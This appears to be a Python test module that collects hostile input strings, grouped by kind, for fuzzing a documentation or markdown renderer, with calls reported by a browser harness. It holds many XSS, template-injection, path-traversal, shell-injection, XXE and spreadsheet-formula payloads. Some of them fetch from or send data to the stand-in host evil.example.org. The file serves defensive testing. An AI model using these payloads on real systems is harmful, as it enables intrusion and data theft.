"""Hostile texts by kind. ``PWN`` in a text stands for a call that the browser reports if it runs."""

from __future__ import annotations

from random import Random

__all__ = ["FAMILIES", "TEXTS", "mix_texts"]

ELSEWHERE = "https://evil.example.org"
"""A site that no page may ever contact."""

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>PWN</script>",
        "<SCRIPT/x>PWN</SCRIPT >",
        "<scr<script>ipt>PWN</scr</script>ipt>",
        "<script src=https://evil.example.org/a.js></script>",
        "<script type=module>import 'https://evil.example.org/b.js'; PWN</script>",
        "</script><script>PWN</script>",
        "</SCRIPT\t><svg onload=PWN>",
        "<!--<script>--><script>PWN</script>",
        "]]><script>PWN</script><![CDATA[",
        "<noscript><p title='</noscript><img src=x onerror=PWN>'>",
        "<template shadowrootmode=open><script>PWN</script></template>",
        "%3Cscript%3EPWN%3C/script%3E +ADw-script+AD4-PWN+ADw-/script+AD4-",
        "\u2028<script>PWN</script>\u2029 \\u003cscript\\u003ePWN\\u003c/script\\u003e",
    ),
    "handlers": (
        "<img src=x onerror=PWN>",
        "<img src=x:x onerror\n=\nPWN>",
        '"><img src=x onerror=PWN>',
        "'><img src=x onerror=PWN>",
        "`><img src=x onerror=PWN>",
        '" onmouseover="PWN" autofocus onfocus="PWN" x="',
        "' onmouseover='PWN' autofocus onfocus='PWN' x='",
        " onmouseover=PWN autofocus onfocus=PWN x=",
        "<body onload=PWN><input autofocus onfocus=PWN><select autofocus onfocus=PWN>",
        "<details open ontoggle=PWN><summary>x</summary></details>",
        "<video><source onerror=PWN></video><audio src=x onerror=PWN>",
        "<marquee onstart=PWN>x</marquee><object data=x onerror=PWN></object>",
        "<style>@keyframes a{}</style><b style='animation:a' onanimationstart=PWN>x</b>",
        "<div popover id=p onbeforetoggle=PWN>x</div><button popovertarget=p autofocus>x</button>",
        "<img/src=`x`onerror=PWN/><img src='x'\x0conerror=PWN><img src=x\x0bonerror=PWN>",
        "<a href=# accesskey=x onclick=PWN>x</a><xss contenteditable autofocus onfocus=PWN tabindex=1>x",
        "</title><body/onload=PWN>",
        "</textarea></style></noscript></template></iframe><img src=x onerror=PWN>",
        "<img title='<img src=x onerror=PWN>' src=x alt=\"<svg onload=PWN>\">",
    ),
    "addresses": (
        "<a href=javascript:PWN>x</a>",
        "<a href=' &#1; java\tscript\n:PWN'>x</a>",
        "<a href='&#x6A;avascript&colon;PWN'>x</a>",
        "<a href='data:text/html,<script>PWN</script>'>x</a><a href=vbscript:PWN>x</a>",
        "<iframe src=javascript:PWN></iframe><iframe srcdoc='<script>parent.PWN</script>'></iframe>",
        "<embed src='data:text/html,<script>PWN</script>'><object data=javascript:PWN></object>",
        "<form action=javascript:PWN><button formaction=javascript:PWN autofocus>x</button></form>",
        "<base href=https://evil.example.org/><base target=_top>",
        "<meta http-equiv=refresh content='0;url=https://evil.example.org/'>",
        '<meta http-equiv=Content-Security-Policy content="default-src *"><link rel=stylesheet href=//evil.example.org/c>',
        "<link rel=prefetch href=https://evil.example.org/p><link rel=dns-prefetch href=//evil.example.org>",
        "<link rel=preconnect href=https://evil.example.org><link rel=manifest href=//evil.example.org/m>",
        "<img src=https://evil.example.org/i.png srcset='https://evil.example.org/j.png 2x'>",
        "<video poster=//evil.example.org/v autoplay src=//evil.example.org/w></video><audio src=//evil.example.org/x autoplay>",
        "<a href=/ ping=https://evil.example.org/ping download=x.exe target=_blank>x</a>",
        "<a href=//evil.example.org/a>x</a><a href='https:\\\\evil.example.org\\b'>x</a>",
        "<table background=https://evil.example.org/t><tr><td background=//evil.example.org/u>x</table>",
        "<input type=image src=//evil.example.org/k><body background=//evil.example.org/l>",
    ),
    "svg and mathml": (
        "<svg onload=PWN>",
        "<svg><script>PWN</script></svg>",
        "<svg><script xlink:href=data:,PWN /></svg>",
        "<svg><animate onbegin=PWN attributeName=x dur=1s></svg>",
        "<svg><a xlink:href=javascript:PWN><text y=20>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:PWN /><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>PWN</script></svg>#x'/></svg>",
        "<svg><image href=https://evil.example.org/s.png /><feImage href=//evil.example.org/f /></svg>",
        "<svg><foreignObject><body onload=PWN></foreignObject><style><img src=x onerror=PWN></style></svg>",
        "<math><a xlink:href=javascript:PWN>x</a><maction actiontype='statusline#x' xlink:href=javascript:PWN>x</maction></math>",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=PWN&gt;"></style>',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN></style></mglyph></form>",
        '<svg></p><style><a id="</style><img src=1 onerror=PWN>">',
    ),
    "templates": (
        "{{ 7 * 7 }}{{ PWN }}{% for a in (1,) %}x{% endfor %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config }}{{ page.meta }}{{ self._TemplateReference__context }}",
        "{% include '/etc/passwd' %}{% import 'os' as o %}{% raw %}{{ x }}",
        "{# comment #}{{ '{{' }}{%- endfor -%}{% endraw %}{% endblock %}",
        "${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7) [[7*7]] {7*7} %s %(x)s %d {0} {x!r}",
        "<? system('id') ?> <!--#exec cmd=\"id\"--> <%@ include file=x %> {php}x{/php}",
        "!ENV [HOME, x] $HOME `id` $(id) ; id | id && id",
    ),
    "markdown": (
        "[x](javascript:PWN) ![x](javascript:PWN) [x](<javascript:PWN>)",
        "[x](JaVaScRiPt&colon;PWN) [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:PWN) [x](\x01javascript:PWN) [x](java\tscript:PWN)",
        "![x](https://evil.example.org/m.png) ![x][r]\n\n[r]: https://evil.example.org/r.png",
        '[x][r]\n\n[r]: javascript:PWN "title"',
        "<javascript:PWN> <https://evil.example.org/auto>",
        '[x](https://ok.example.org "t\\" onmouseover=PWN x")',
        '[x](https://ok.example.org){: onclick=PWN onmouseover="PWN" style="position:fixed" }',
        "# Heading {: #top onclick=PWN style=color:red }",
        "{: onclick=PWN }\n\nparagraph\n{: onmouseover=PWN .md-header #rl-q }",
        "<div markdown=1 onclick=PWN>\n\n*x*\n\n</div>",
        "<div markdown=block>\n<script>PWN</script>\n\n- a\n</div>",
        "| a | b |\n|---|---|\n| <img src=x onerror=PWN> | [x](javascript:PWN) |",
        "```html\n</code></pre><script>PWN</script>\n```\n\n    </code></pre><img src=x onerror=PWN>",
        "`</code><img src=x onerror=PWN>` ``<script>PWN</script>``",
        '--8<-- "/etc/passwd"\n\n;--8<--\n/etc/passwd\n;--8<--',
        '!!! danger "<img src=x onerror=PWN>"\n    <script>PWN</script>',
        '??? note "x" onclick=PWN\n    text\n\n=== "Tab <svg onload=PWN>"\n    text',
        '[^1]\n\n[^1]: <script>PWN</script>\n\n*[x]: " onmouseover="PWN',
        ":smile: :octicons-heart-24:{ onclick=PWN } :material-<svg onload=PWN>:",
        "---\ntitle: <script>PWN</script>\ntemplate: /etc/passwd\n---\n# x",
        '[x](paper:../../../etc/passwd) [x](topic:"onclick=PWN) [x](paper:)',
        "[x](../../../../etc/passwd) ![x](../../mkdocs.yml) [x](file:///etc/passwd)",
        "<p\n\nonclick=PWN>\n\n<!-- --!><img src=x onerror=PWN> -->",
        "Setext <img src=x onerror=PWN>\n===\n\n> <script>PWN</script>\n\n1. <svg onload=PWN>\n   - <b onclick=PWN>x",
        "[](https://evil.example.org/empty) [x](//evil.example.org/relative) [x]( https://evil.example.org/space )",
        "\\<img src=x onerror=PWN\\> &lt;script&gt;PWN&lt;/script&gt; &#x3c;img src=x onerror=PWN&#x3e;",
        "&ampltscript&ampgtPWN &amp;lt;svg onload=PWN&amp;gt; &#60;svg onload=PWN&#62; &ltsvg onload=PWN&gt",
    ),
    "styles": (
        "<style>*{display:none!important}body{background:url(https://evil.example.org/css)}</style>",
        "</style><style>@import url(//evil.example.org/import);</style>",
        '<b style="background:url(//evil.example.org/bg);position:fixed;inset:0;z-index:9999">x</b>',
        "<link rel=stylesheet href='data:text/css,*{display:none}'>",
        '"] { } * { display: none } [x="',
        "<p class='md-overlay rl-hidden md-hidden' hidden>x</p><dialog open>x</dialog>",
    ),
    "clobbering": (
        '<a id=__config>{"base":"https://evil.example.org"}</a>',
        "<form id=rl-browse name=rl-library><input name=attributes><input name=children><input id=__search>",
        "<img name=body><img name=currentScript src=x><a id=location href=https://evil.example.org>x</a>",
        "<a id=ROOT><a id=ROOT name=href href=https://evil.example.org/></a><iframe name=fetch></iframe>",
        "<div id=rl-library data-rl-keep=full data-slug=x data-rl-copy=bib data-rl=list>x</div>",
        '<script id=__config type=application/json>{"base":"https://evil.example.org"}</script>',
        "<span class=Z3988 title='ctx_ver=Z39.88-2004&amp;rft.title=pwned'></span><b itemscope itemtype=x>x</b>",
        "__proto__ constructor prototype hasOwnProperty toString valueOf then length",
        *(
            "__proto__",
            "constructor",
            "hasOwnProperty",
            "toString",
            "undefined",
            "null",
            "NaN",
            "[object Object]",
        ),
    ),
    "json": (
        '"}];PWN;//',
        "'}];PWN;//",
        '\\"}];PWN;//\\',
        "\\u0022}];PWN;// \\x3c/script\\x3e \\",
        '</script><!--<script> {"@context": "https://evil.example.org"}',
        "`${PWN}` \\` ${`",
    ),
    "xml": (
        ']]>&entity;<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>',
        "<![CDATA[<script>PWN</script>]]>",
        "&#0; &#1; &#xFFFF; &#xD800; &bogus; & &; &#;",
        '"/><outline xmlUrl="https://evil.example.org/" text="',
        '</title><entry><link href="javascript:PWN"/></entry><title>',
    ),
    "bibtex": (
        "} @article{stolen, title = {x}} @comment{",
        "}}}}{{{{ \\} \\{ {\\} }",
        "\\input{/etc/passwd} \\include{x} \\write18{id} \\immediate\\write18{id}",
        "\\csname input\\endcsname{/etc/passwd} \\catcode`\\@=11 \\def\\x{\\x}\\x ^^5cinput",
        '100% of $x_1^2$ & #1 ~ \\ \\\\ " # " # {',
        '@string{a = "b"} @preamble{"\\write18{id}"} @comment{',
        '"quoted" and others and "a, b" {and}, and , , and',
    ),
    "ris": (
        "x\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - stolen\r\nER  - \r\n",
        "x\nER  - \nTY  - BOOK\nTI  - stolen",
        "TY  - JOUR ER  - AU  - UR  - https://evil.example.org",
        "x\u2028ER  - \u2028TY  - JOUR\u2028TI  - stolen\x85ER  - \x0bTY  - JOUR\x1cER  - ",
    ),
    "csv": (
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '\t=HYPERLINK("https://evil.example.org/?"&A1,"x")',
        '\r=1+1 ","x","\n=2+2,stolen,row\n',
        '\uff1d1+1 \u200b=1+1 ;=1+1;"=1+1"',
    ),
    "paths": (
        "../../../../../../tmp/pwned",
        "..\\..\\..\\pwned /etc/passwd C:\\pwned \\\\evil.example.org\\share file:///etc/passwd",
        "%2e%2e%2f%2e%2e%2fpwned ..%c0%afpwned ....//....//pwned",
        "CON NUL aux.txt .git/config .htaccess index.html ~ ~root -rf --root=/",
    ),
    "characters": (
        "\ue000\ue001 \ue0000\ue001 \ue0001\ue001 \ue000slug\ue001 \ue000title&\ue001 \ue000rl_heading\ue001 rl_heading",
        "\ue000heading\ue001 \ue000anchor\ue001 \ue000head&amp;\ue001 %EE%80%80slug%EE%80%81 \ue000edit_url&\ue001",
        "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0000\x03 klzzwxh:0001 \x02\x03",
        "\u202egnp.exe\u202c \u2066isolated\u2069 \u200b\u200c\u200d\u2060\ufeff\u00ad zero",
        "nul \x00 bell \x07 escape \x1b[31m \x1b]0;pwned\x07 next\u0085line para\u2029graph \x9b31m",
        "cr\rlf\ncrlf\r\nvt\x0bff\x0cfs\x1cgs\x1drs\x1eus\x1f",
        "e\u0301 \u00e9 \u212b \u00c5 \ufb01 \uff1cscript\uff1e \u2024\u2024/ \u1e9e\u0130\u0131\u017f",
        "\U0001f9d1\u200d\U0001f9b0 \U000e0001\U000e0041 \ufdd0 \U0001fffe \ud7ff\uf8ff \U0010ffff",
        "Z" + "\u0340\u0317\u0489" * 60,
        "w" * 900 + " " + "\u0e33" * 300,
        "::error file=x::pwned\n::stop-commands::x\n::set-output name=x::y\n##[error]x",
    ),
}


def _number_calls() -> tuple[str, ...]:
    """Return all texts, with a different number in the calls of each."""
    texts = (text for family in FAMILIES.values() for text in family)
    return tuple(text.replace("PWN", f"pwn({number})") for number, text in enumerate(texts, 1000))


TEXTS = _number_calls()
"""All texts, ready to use in fields."""


def mix_texts(random: Random) -> str:
    """Return random pieces of a few texts, joined."""
    pieces = []
    for _ in range(random.randint(1, 4)):
        text = random.choice(TEXTS)
        start = random.choice((0, 0, random.randrange(len(text))))
        end = random.choice((len(text), len(text), random.randint(start, len(text))))
        pieces.append(text[start:end])
        pieces.append(random.choice(("", "", " ", "\n", "\n\n", "\t", '"', "'", ">", "<", "&", "`", "\\")))
    return "".join(pieces).strip() or "x"
